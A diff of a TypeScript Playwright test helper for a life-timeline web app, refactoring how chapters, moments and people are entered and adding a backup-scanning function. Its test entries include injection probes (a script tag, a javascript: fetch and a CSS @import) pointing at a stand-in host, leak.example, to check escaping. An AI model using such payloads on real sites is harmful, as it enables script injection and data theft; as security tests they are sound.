@@ -1,5 +1,6 @@
 import { readFileSync } from 'node:fs';
 import type { Download, Locator, Page } from '@playwright/test';
+import type { EventKind, LifeEvents } from '../../src/life/life-events.ts';
 import { LANGUAGE_PATHS, LanguageVisit, readWords, tagOf } from './languages.ts';
 import { expect, type Visitor } from './test.ts';
 import { beginToAdd } from './weeks.ts';
@@ -103,21 +104,38 @@ export async function fillIn(visitor: Visitor): Promise<void> {
   await visitor.allSections();
 }
 
+/** What the page makes of an event by itself, and what is chosen instead of typed. */
+type Untyped = 'id' | 'color' | 'livedTogether';
+type Typed<Kind extends EventKind> = Record<Exclude<keyof LifeEvents[Kind][number], Untyped>, string>;
+
+/** The labels of every field of an event: one that is missing here does not compile, nor does an entry without it. */
+const EDITORS = {
+  chapters: { name: 'Chapter', labels: { name: 'Name', from: 'From', until: 'Until' } },
+  moments: { name: 'Moment', labels: { text: 'A few words', when: 'When' } },
+  people: {
+    name: 'Person',
+    labels: {
+      name: 'Name',
+      birthYear: 'Year of birth',
+      diedIn: 'Died in (optional)',
+      daysPerYear: 'Days together a year',
+      since: 'Known each other since (optional)',
+    },
+  },
+} as const satisfies { readonly [Kind in EventKind]: { name: string; labels: Typed<Kind> } };
+
 /** Opens an editor under the weeks, fills in each of its entries, adds them, and leaves another one unfinished. */
-async function addEntries(
-  page: Page,
-  kind: 'Moment' | 'Chapter' | 'Person',
-  entries: readonly Readonly<Record<string, string>>[],
-) {
+async function addEntries<Kind extends EventKind>(page: Page, of: Kind, entries: readonly Typed<Kind>[]) {
+  const { name: kind, labels } = EDITORS[of];
   const form = page.getByRole('form', { name: `Add a ${kind.toLowerCase()}` });
   for (const entry of entries) {
     if ((await form.count()) === 0) await beginToAdd(page, kind);
-    for (const [label, text] of Object.entries(entry)) {
-      await form.getByLabel(label, { exact: true }).fill(text);
+    for (const [field, label] of Object.entries<string>(labels)) {
+      await form.getByLabel(label, { exact: true }).fill(Object(entry)[field]);
     }
     await form.getByRole('button', { name: 'Add', exact: true }).click();
   }
-  const [first = ''] = Object.keys(entries[0] ?? {});
+  const [first = ''] = Object.values<string>(labels);
   if ((await form.count()) === 0) await beginToAdd(page, kind);
   await form.getByLabel(first, { exact: true }).fill(life.word(`unfinished ${kind}`));
   await page.keyboard.press('Escape');
@@ -125,19 +143,25 @@ async function addEntries(
 }
 
 export async function addToWeeks({ page }: Visitor): Promise<void> {
-  await addEntries(page, 'Chapter', [
-    { Name: life.word('School of'), From: life.date('1964-09-27'), Until: '1976' },
-    { Name: life.word('</script><script src=//leak.example/'), From: life.word('never, until'), Until: '' },
-    { Name: life.word('Town of'), From: life.date('1988-11-13'), Until: life.date('1999-10-29') },
+  await addEntries(page, 'chapters', [
+    { name: life.word('School of'), from: life.date('1964-09-27'), until: '1976' },
+    { name: life.word('</script><script src=//leak.example/'), from: life.word('never, until'), until: '' },
+    { name: life.word('Town of'), from: life.date('1988-11-13'), until: life.date('1999-10-29') },
   ]);
-  await addEntries(page, 'Moment', [
-    { 'A few words': life.word('Wedding of'), When: life.date('1983-08-24') },
-    { 'A few words': life.word('javascript:fetch("//leak.example/', '")'), When: '2001' },
-    { 'A few words': life.word('Lost'), When: life.word('some day of') },
+  await addEntries(page, 'moments', [
+    { text: life.word('Wedding of'), when: life.date('1983-08-24') },
+    { text: life.word('javascript:fetch("//leak.example/', '")'), when: '2001' },
+    { text: life.word('Lost'), when: life.word('some day of') },
   ]);
-  await addEntries(page, 'Person', [
-    { Name: life.word('Maria'), 'Year of birth': '1936', 'Days together a year': '13' },
-    { Name: life.word('@import url(//leak.example/', ')'), 'Year of birth': life.word('long ago') },
+  await addEntries(page, 'people', [
+    { name: life.word('Maria'), birthYear: '1936', diedIn: '', daysPerYear: '13', since: '1959' },
+    {
+      name: life.word('@import url(//leak.example/', ')'),
+      birthYear: life.word('long ago'),
+      diedIn: '2019',
+      daysPerYear: '7',
+      since: '',
+    },
   ]);
 }
 
@@ -214,6 +238,25 @@ export async function takeAway(visitor: Visitor): Promise<{ link: string; backup
   await page.keyboard.press('Escape');
   const link = await page.evaluate(() => navigator.clipboard.readText());
   return { link, backup: readFileSync(await backup.path(), 'utf8') };
+}
+
+/** What the page makes of a life by itself, offers to choose from, or only takes as an age. */
+const OFFERED = /(^|\.)(version|product|language|country|basis|population|id|known|color|schedule)(\.|$)/;
+
+/** The paths of the texts in a backup of which none is marked. */
+export function listUnmarked(backup: string): string[] {
+  const isMarked = new Map<string, boolean>();
+  const look = (value: unknown, path: readonly string[]): void => {
+    if (typeof value === 'object' && value !== null) {
+      const isList = Array.isArray(value);
+      for (const [key, part] of Object.entries(value)) look(part, isList ? path : [...path, key]);
+    } else if (typeof value === 'string') {
+      const where = path.join('.');
+      isMarked.set(where, isMarked.get(where) || life.marks.some((mark) => value.includes(mark)));
+    }
+  };
+  look(JSON.parse(backup), []);
+  return Array.from(isMarked).flatMap(([path, marked]) => (marked || OFFERED.test(path) ? [] : path));
 }
 
 export async function lookAround(visitor: Visitor): Promise<void> {
